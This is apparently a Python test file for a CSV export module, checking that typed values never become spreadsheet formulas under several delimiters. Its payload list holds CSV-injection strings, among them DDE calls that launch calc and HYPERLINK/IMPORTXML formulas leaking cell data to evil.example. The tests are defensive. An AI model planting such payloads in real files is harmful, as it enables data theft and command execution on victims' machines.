"""What a spreadsheet makes of our CSV: no cell is a formula, whatever was typed and however it splits."""

from __future__ import annotations

import csv
import io
import unicodedata
import uuid
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracker.documents.tables import Table, as_csv, inert, plain

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "－1＋1",
    "＠SUM(1)",
    "misread;=1+1",
    "misread\t=1+1",
    "misread\r\n=1+1",
    '"=1+1',
    'a";=1+1;"',
    ';"=1+1',
)


def as_sheet(content: bytes, delimiter: str) -> list[str]:
    """The cells as a spreadsheet reads them that splits lines at this character."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def is_formula(cell: str) -> bool:
    """By the most careless reading: invisible characters dropped, look-alikes taken for the real ones."""
    seen = "".join(c for c in cell if unicodedata.category(c)[0] not in "CZ")
    return unicodedata.normalize("NFKC", seen)[:1] in tuple("=+-@")


def table_of(*values: object) -> Table:
    return Table("notes", tuple(f"c{number}" for number in range(len(values))), (values,))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_payload_becomes_a_formula_wherever_lines_are_split(payload, delimiter):
    cells = as_sheet(as_csv(table_of("before", payload, "after")), delimiter)
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_what_was_typed_is_still_there_to_read(payload):
    *_, cell, _ = as_sheet(as_csv(table_of("before", payload, "after")), ",")
    assert cell.replace("'", "") == payload.replace("'", "")


@given(st.text(alphabet=st.sampled_from("=+-@＝;,\t\r\n\"' a1\u200b"), max_size=12))
def test_no_mixture_of_them_does_either(text):
    content = as_csv(table_of("before", text, "after"))
    for delimiter in ",;\t":
        cells = [cell for cell in as_sheet(content, delimiter) if not cell.lstrip("+-").isdigit()]
        assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize(
    "harmless", ["", "M54.12", "a = b", "C7-T1", "1-2", "lidocaine 1 %, 2 ml", "O'Hara", "Zoë"]
)
def test_other_text_stays_as_it_is(harmless):
    assert inert(harmless) == harmless


@pytest.mark.parametrize("number", [0, -3, Decimal("-1.50"), -0.5, "-12", "+4", "0"])
def test_numbers_stay_numbers(number):
    *_, cell = as_sheet(as_csv(table_of(number)), ",")
    assert cell == str(number)


def test_every_kind_of_value_has_one_way_of_writing():
    values = (
        None,
        True,
        False,
        date(2026, 5, 20),
        datetime(2026, 5, 20, 19, 30, tzinfo=UTC),
        time(7, 5),
        ["a"],
        {"b": None},
    )
    assert as_sheet(as_csv(table_of(*values)), ",")[len(values) :] == [
        *("", "true", "false", "2026-05-20", "2026-05-20T19:30:00+00:00", "07:05:00", '["a"]', '{"b": null}')
    ]


def test_the_file_says_its_encoding_and_ends_its_lines_as_the_standard_does():
    content = as_csv(Table("names", ("name",), (("Zoë",), ("日本",))))
    assert content == "\ufeffname\r\nZoë\r\n日本\r\n".encode()


def test_json_has_numbers_and_iso_times():
    assert plain(Decimal("4.50")) == 4.5
    assert plain(date(2026, 5, 20)) == "2026-05-20"
    assert plain(uuid.UUID(int=1)) == "00000000-0000-0000-0000-000000000001"
    assert plain(0) == 0 and plain(None) is None and plain(False) is False
